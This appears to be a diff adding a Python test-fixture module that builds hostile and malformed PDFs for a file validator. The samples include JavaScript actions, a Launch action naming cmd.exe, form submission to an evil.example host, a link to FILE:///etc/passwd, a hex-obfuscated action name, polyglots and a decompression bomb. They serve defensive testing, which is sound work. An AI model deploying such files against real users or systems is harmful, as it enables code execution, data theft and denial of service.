@@ -1,0 +1,125 @@
+"""PDFs for tests, good and bad, made on the spot."""
+
+import zlib
+from io import BytesIO
+
+import pikepdf
+from pikepdf import Array, Dictionary, Name, Stream, String
+
+
+def pdf(pages=1, change=None, **saving) -> bytes:
+    """A small PDF; `change(pdf)` spoils it before it is saved."""
+    with pikepdf.new() as made:
+        for _ in range(pages):
+            made.add_blank_page(page_size=(595, 842))
+        if change:
+            change(made)
+        data = BytesIO()
+        made.save(data, **saving)
+    return data.getvalue()
+
+
+def _action(**entries):
+    def change(made):
+        made.Root.OpenAction = made.make_indirect(Dictionary(Type=Name.Action, **entries))
+
+    return pdf(change=change)
+
+
+def _page_script(made):
+    script = Dictionary(S=Name.JavaScript, JS=String("app.alert(1)"))
+    made.pages[0].AA = Dictionary(O=script)
+
+
+def _annotation(subtype):
+    def change(made):
+        note = Dictionary(Type=Name.Annot, Subtype=Name(subtype), Rect=Array([0, 0, 9, 9]))
+        made.pages[0].Annots = Array([made.make_indirect(note)])
+
+    return pdf(change=change)
+
+
+def _attached_file(made):
+    made.attachments["inner.pdf"] = pdf()
+
+
+def _xfa(made):
+    made.Root.AcroForm = Dictionary(Fields=Array(), XFA=made.make_stream(b"<xdp/>"))
+
+
+def _no_pages(made):
+    del made.pages[0]
+
+
+def _huge_page(made):
+    made.pages[0].MediaBox = Array([0, 0, 2_000_000_000, 2_000_000_000])
+
+
+def _flat_page(made):
+    made.pages[0].MediaBox = Array([0, 0, 595, 0])
+
+
+def _huge_by_inheritance(made):
+    del made.pages[0].obj.MediaBox
+    made.Root.Pages.MediaBox = Array([0, 0, 2_000_000_000, 2_000_000_000])
+
+
+def _bomb(made):
+    # Six hundred megabytes of nothing in one page's content.
+    packed = zlib.compress(bytes(600_000_000), 9)
+    content = Stream(made, b"")
+    content.write(packed, filter=Name.FlateDecode)
+    made.pages[0].Contents = made.make_indirect(content)
+
+
+def bomb() -> bytes:
+    raw = pikepdf.StreamDecodeLevel.none
+    return pdf(change=_bomb, stream_decode_level=raw, compress_streams=False)
+
+
+def _zip() -> bytes:
+    # The empty archive: nothing but its end.
+    return b"PK\x05\x06" + bytes(18)
+
+
+GOOD = pdf()
+
+# Name of the case -> (bytes, code of the fault).
+BAD = {
+    "five bytes": (b"%PDF-", "damaged"),
+    "a web page": (b"<!doctype html><title>x</title>", "not_a_pdf"),
+    "picture and PDF": (b"GIF89a" + GOOD, "not_a_pdf"),
+    "drawing and PDF": (b"<svg onload=alert(1)>" + GOOD, "not_a_pdf"),
+    "junk first": (b"x" * 1100 + GOOD, "not_a_pdf"),
+    "archive behind": (GOOD + _zip(), "two_files_in_one"),
+    "archive behind, with an end": (GOOD + b"x" * 200 + _zip(), "two_files_in_one"),
+    "junk behind": (GOOD + b"x" * 65, "two_files_in_one"),
+    "half": (GOOD[: len(GOOD) // 2], "damaged"),
+    "no end": (GOOD.replace(b"%%EOF", b""), "damaged"),
+    "script on opening": (_action(S=Name.JavaScript, JS=String("x")), "active_content"),
+    "script on a page": (pdf(change=_page_script), "active_content"),
+    "script, name in hexadecimal": (
+        _action(S=Name("/Twelve_chars")).replace(b"/Twelve_chars", b"/J#61vaScript"),
+        "active_content",
+    ),
+    "launch": (_action(S=Name.Launch, F=String("cmd.exe")), "active_content"),
+    "send a form": (_action(S=Name.SubmitForm, F=String("https://evil.example")), "active_content"),
+    "fetch a form": (_action(S=Name.ImportData, F=String("x.fdf")), "active_content"),
+    "open a file elsewhere": (_action(S=Name.GoToR, F=String(r"\\evil\x")), "active_content"),
+    "open an inner file": (_action(S=Name.GoToE), "active_content"),
+    "link to a file": (_action(S=Name.URI, URI=String("FILE:///etc/passwd")), "active_content"),
+    "media": (_annotation("/RichMedia"), "active_content"),
+    "file as a note": (_annotation("/FileAttachment"), "active_content"),
+    "file inside": (pdf(change=_attached_file), "active_content"),
+    "dynamic form": (pdf(change=_xfa), "active_content"),
+    "password": (
+        pdf(encryption=pikepdf.Encryption(user="secret", owner="secret")),
+        "encrypted",
+    ),
+    "restrictions": (pdf(encryption=pikepdf.Encryption(user="", owner="secret")), "encrypted"),
+    "no pages": (pdf(change=_no_pages), "no_pages"),
+    "too many pages": (pdf(pages=201), "too_many_pages"),
+    "huge page": (pdf(change=_huge_page), "page_size"),
+    "flat page": (pdf(change=_flat_page), "page_size"),
+    "huge pages by inheritance": (pdf(change=_huge_by_inheritance), "page_size"),
+}
